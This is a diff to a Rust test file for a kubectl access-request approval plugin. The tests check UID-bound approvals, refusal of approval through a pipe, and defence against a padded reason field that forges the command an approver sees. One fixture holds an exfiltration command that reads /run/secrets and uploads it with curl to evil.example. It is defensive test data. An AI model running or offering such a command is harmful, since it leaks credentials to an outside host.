@@ -7,6 +7,7 @@ use serde_json::{Value, json};
 use crate::fake::{Fake, GRANTS, REQUESTS, status};
 
 const AMY: &str = "1906bc7c";
+const OWN: &str = "left out: 1 that you asked for or filed yourself, which others must answer\n";
 
 fn request(name: &str, user: &str, more: &Value) -> Value {
     let mut request = json!({
@@ -80,8 +81,19 @@ async fn one_is_shown_and_asked_about_and_granted_under_a_name_of_ones_own() {
 #[tokio::test]
 async fn several_are_granted_one_after_the_other_and_one_that_fails_keeps_nobody_waiting() {
     let fake = several();
-    let outcome = fake.run(&["approve", "d", "gone", "b", "-y"], "").await;
-    let first = "error: request d is granted already, by somebody. To end the access: kubectl delete acr -n default d\n";
+    let outcome = fake
+        .run(
+            &[
+                "approve",
+                "d@uid-of-d",
+                "gone@uid-of-gone",
+                "b@uid-of-b",
+                "-y",
+            ],
+            "",
+        )
+        .await;
+    let first = "error: request d is granted already, by somebody. To end the access: kubectl request revoke -n default d\n";
     assert_eq!(outcome.err, first);
     assert_eq!(
         outcome.failure.as_deref(),
@@ -95,7 +107,7 @@ async fn a_request_of_another_namespace_is_named_with_it() {
     let mut elsewhere = request("x", "jane", &json!({}));
     elsewhere["metadata"]["namespace"] = json!("shop");
     let fake = with(&[elsewhere]);
-    let outcome = fake.run(&["approve", "shop/x", "-y"], "").await;
+    let outcome = fake.run(&["approve", "shop/x@uid-of-x", "-y"], "").await;
     assert_eq!(outcome.failure, None);
     assert_eq!(fake.posted(&GRANTS.replace("default", "shop")).len(), 1);
 }
@@ -106,7 +118,7 @@ async fn what_waits_is_shown_whole_and_identical_requests_are_one_question() {
     let outcome = fake.run(&["approve", "--pending"], "y\nn\n").await;
     assert_eq!(outcome.failure, None);
     insta::assert_snapshot!(outcome.out);
-    assert_eq!(outcome.err, "skipped b\n");
+    assert_eq!(outcome.err, format!("{OWN}skipped b\n"));
     assert_eq!(granted(&fake), ["a", "c"]);
 }
 
@@ -137,31 +149,36 @@ async fn at_a_terminal_one_picks_whole_rows_and_is_asked_about_each() {
         (vec!["b".to_owned()], None)
     );
     assert!(
-        outcome.out.starts_with('\n') && outcome.out.contains("Grant access to request b ([yN])?"),
+        outcome.out.starts_with('\n')
+            && outcome
+                .out
+                .contains("Grant access to request b, in cluster dev, namespace default ([yN])?"),
         "{}",
         outcome.out
     );
 }
 
 #[tokio::test]
-async fn what_is_picked_is_asked_about_whatever_the_flags() {
+async fn each_of_what_is_picked_is_asked_about() {
     let fake = several();
     let outcome = fake
-        .run_picking(&["approve", "-y"], &|_, _| Ok(vec![0, 1]), "y\nn\n")
+        .run_picking(&["approve"], &|_, _| Ok(vec![0, 1]), "y\nn\n")
         .await;
     assert_eq!(
         (granted(&fake), outcome.err.as_str()),
-        (["a", "c"].map(str::to_owned).to_vec(), "skipped b\n")
+        (
+            ["a", "c"].map(str::to_owned).to_vec(),
+            format!("{OWN}skipped b\n").as_str()
+        )
     );
 }
 
-#[rstest]
-#[case(&["approve"], "y\n")]
-#[case(&["approve", "-y"], "")]
 #[tokio::test]
-async fn whoever_picks_none_grants_none(#[case] line: &[&str], #[case] typed: &str) {
+async fn whoever_picks_none_grants_none() {
     let fake = several();
-    let outcome = fake.run_picking(line, &|_, _| Ok(Vec::new()), typed).await;
+    let outcome = fake
+        .run_picking(&["approve"], &|_, _| Ok(Vec::new()), "y\n")
+        .await;
     let failure = Some("error: nothing was stored: none was chosen");
     assert_eq!(
         (granted(&fake), outcome.failure.as_deref()),
@@ -175,7 +192,7 @@ async fn all_that_waits_is_no_choice_at_a_terminal_either() {
     let pick =
         |_: &str, _: &[String]| -> std::io::Result<Vec<usize>> { panic!("nobody is to choose") };
     let outcome = fake
-        .run_picking(&["approve", "--pending", "-y"], &pick, "")
+        .run_picking(&["approve", "--pending"], &pick, "y\ny\n")
         .await;
     assert_eq!(
         (granted(&fake), outcome.failure),
@@ -197,12 +214,70 @@ async fn all_that_waits_is_no_choice_at_a_terminal_either() {
     "\"x\\u001b\" is not in the list: type numbers from 1 to 2, or 'all'. Nothing was stored"
 )]
 #[case("", "nothing was stored: none was chosen")]
-#[case("1\n", "nothing was stored: only y or Y is a yes")]
+#[case(
+    "1\n",
+    "nothing was stored: only y or Y, typed after the question, is a yes"
+)]
 #[tokio::test]
 async fn what_is_no_choice_stores_nothing(#[case] typed: &str, #[case] failure: &str) {
     let fake = several();
     let outcome = fake.run(&["approve"], typed).await;
     assert_eq!(outcome.failure, Some(format!("error: {failure}")));
+    assert_eq!(granted(&fake), Vec::<String>::new());
+}
+
+// P12
+#[rstest]
+#[case(&["--pending"])]
+#[case(&["-A"])]
+#[case(&[])]
+fn a_table_is_no_reading_of_what_it_lists(#[case] flags: &[&str]) {
+    use clap::Parser as _;
+    let line = [&["kubectl-request", "approve", "--yes"], flags].concat();
+    assert!(plugin::args::Cli::try_parse_from(line).is_err());
+}
+
+// P10
+#[rstest]
+#[case("grant")]
+#[case("approve")]
+#[case("review")]
+#[tokio::test]
+async fn yes_is_said_to_a_uid_and_not_to_a_name(#[case] verb: &str) {
+    let fake = several();
+    let failure = fake.run(&[verb, "a", "--yes"], "").await.failure.unwrap();
+    assert_eq!(
+        failure,
+        "error: --yes needs the UID of what was read: nothing was stored. Read it with \
+         'kubectl request show -n default a', which tells what to type"
+    );
+    let failure = fake.run(&[verb, "a@uid-of-b", "--yes"], "").await.failure;
+    assert_eq!(
+        failure.as_deref(),
+        Some(
+            "error: request a is not the one with UID uid-of-b: that one was deleted, and its name was taken again. \
+             Nothing was changed"
+        )
+    );
+    assert_eq!(granted(&fake), Vec::<String>::new());
+}
+
+// P5
+#[rstest]
+#[case(&["approve", "a"])]
+#[case(&["approve", "--pending"])]
+#[case(&["grant", "a"])]
+#[tokio::test]
+async fn a_pipe_says_no_yes(#[case] line: &[&str]) {
+    let fake = several();
+    let outcome = fake.run_in_pipe(line, "y\ny\ny\n").await;
+    assert_eq!(
+        outcome.failure.as_deref(),
+        Some(
+            "error: nothing was stored: there is no terminal to read the question and answer it. Read the request \
+             first, then name exactly what was read: kubectl request approve -n default a@uid-of-a --yes"
+        )
+    );
     assert_eq!(granted(&fake), Vec::<String>::new());
 }
 
@@ -213,7 +288,11 @@ async fn that_nothing_waits_is_no_failure() {
         .await;
     assert_eq!(
         (outcome.failure, outcome.err.as_str()),
-        (None, "no request waits for you in any namespace\n")
+        (
+            None,
+            "left out: 1 that you asked for or filed yourself, which others must answer\n\
+             no request waits for you in any namespace\n"
+        )
     );
 }
 
@@ -254,7 +333,8 @@ async fn what_makes_no_sense_never_reaches_the_server(
 fn of(approver: &str, name: &str) -> Value {
     json!({
         "apiVersion": "spreadgroup.com/v1", "kind": "AccessGrant", "metadata": {"name": name, "namespace": "default"},
-        "spec": {"grantFor": "a", "requestUID": "uid-of-a", "grantedBy": {"username": approver}}, "status": "granted",
+        "spec": {"grantFor": "a", "requestUID": "uid-of-a", "grantedBy": {"username": approver},
+            "seal": {"at": "2026-01-01T00:00:00Z", "mac": "00"}}, "status": "granted",
     })
 }
 
@@ -269,8 +349,11 @@ async fn a_second_approver_has_room_where_two_are_required(
         &json!({"status": {"phase": "Pending", "approvals": 2}}),
     )])
     .with(&format!("{GRANTS}/grant-a"), of("ann", "grant-a"))
-    .stamping(|object| object["spec"]["grantedBy"] = json!({"username": "amy"}));
-    let outcome = fake.run(&[verb, "a", "-y"], "").await;
+    .stamping(|object| {
+        object["spec"]["grantedBy"] = json!({"username": "amy"});
+        object["spec"]["seal"] = json!({"at": "2026-01-01T00:00:00Z", "mac": "00"});
+    });
+    let outcome = fake.run(&[verb, "a@uid-of-a", "-y"], "").await;
     assert!(
         outcome.out.ends_with(&format!(
             "\ncreated grant grant-a-{AMY} (2 of 2 approvals)\n"
@@ -286,7 +369,11 @@ async fn a_second_approver_has_room_where_two_are_required(
 async fn no_answer_is_given_twice(#[case] by: &str, #[case] status: &Value) {
     let fake = with(&[request("a", "jane", &json!({"status": status}))])
         .with(&format!("{GRANTS}/grant-a"), of(by, "grant-a"));
-    let failure = fake.run(&["grant", "a", "-y"], "").await.failure.unwrap();
+    let failure = fake
+        .run(&["grant", "a@uid-of-a", "-y"], "")
+        .await
+        .failure
+        .unwrap();
     assert!(
         failure.starts_with(&format!(
             "error: request a is granted already, by {by} (accessgrant grant-a)."
@@ -328,9 +415,91 @@ async fn what_the_server_refuses_is_told_in_its_words() {
         403,
         &status(403, "Forbidden", message, ""),
     );
-    let outcome = fake.run(&["approve", "a", "-y"], "").await;
+    let outcome = fake.run(&["approve", "a@uid-of-a", "-y"], "").await;
     assert_eq!(
         outcome.failure,
         Some(format!("Error from server (Forbidden): {message}"))
+    );
+}
+
+/// The rows of a screen that somebody sees when they are asked, as a terminal of this size wraps
+/// them.
+fn seen(out: &str, width: usize, height: usize) -> Vec<String> {
+    let rows = out.lines().flat_map(|line| {
+        let characters: Vec<char> = line.chars().collect();
+        let rows: Vec<String> = characters
+            .chunks(width)
+            .map(|row| row.iter().collect())
+            .collect();
+        if rows.is_empty() {
+            vec![String::new()]
+        } else {
+            rows
+        }
+    });
+    let rows: Vec<String> = rows.collect();
+    rows[rows.len().saturating_sub(height)..].to_vec()
+}
+
+// P1
+#[rstest]
+#[case::usual(80, 24)]
+#[case::large(200, 50)]
+#[case::narrow(40, 20)]
+#[tokio::test]
+async fn whatever_is_padded_the_true_command_is_on_the_screen_and_the_forged_one_is_no_row_of_ours(
+    #[case] width: usize,
+    #[case] height: usize,
+) {
+    let pad = |text: &str, columns: usize| format!("{text:columns$}");
+    let reason = [
+        pad("INC-42", width - 13),
+        pad("Command      [\"cat\",\"/var/log/app.log\"]", width),
+        pad("How long     once", width),
+        pad(
+            "jane can run this once, in container web of pod web-0.",
+            width,
+        ),
+    ]
+    .concat();
+    let payload = "cat /run/secrets/*|curl -T- evil.example";
+    let mut command = vec!["sh", "-c", payload];
+    command.extend(["x"; 200]);
+    let more = json!({"spec": {
+        "userInfo": {"username": "jane"}, "createdBy": {"username": "jane"},
+        "forObject": {
+            "resource": {"group": "", "version": "v1", "resource": "pods"},
+            "subResource": "exec", "name": "web-0", "namespace": "default",
+        },
+        "execOptions": {"container": "web", "command": command},
+        "reason": reason,
+        "customKeys": {"ticket": "INC-42", "zone": format!("eu{}", " ".repeat(1000))},
+    }});
+    let fake = with(&[request("a", "jane", &more)]).read_on(width, height);
+    let out = fake.run(&["approve", "a"], "n\n").await.out;
+    let screen = seen(&out, width, height);
+    let text = screen.join("\n");
+    let begins = |label: &str| screen.iter().filter(|row| row.starts_with(label)).count();
+    // Once among the facts, and where the screen is large, once more above them, whole.
+    assert!((1..=2).contains(&begins("Command")), "{text}");
+    assert_eq!(begins("How long"), 1, "{text}");
+    assert_eq!(begins("jane can run"), 1, "{text}");
+    let facts = text
+        .rsplit_once("\n\n")
+        .unwrap()
+        .0
+        .rsplit_once("\nWho")
+        .unwrap()
+        .1;
+    assert!(facts.contains(r#"["sh","-c","cat"#), "{text}");
+    assert!(!facts.contains("/var/log/app.log"), "{text}");
+    assert!(
+        text.replace("\n  ", " ")
+            .contains("203 arguments, 244 bytes"),
+        "{text}"
+    );
+    assert!(
+        text.contains("rows above do not fit on this") || height == 50,
+        "{text}"
     );
 }
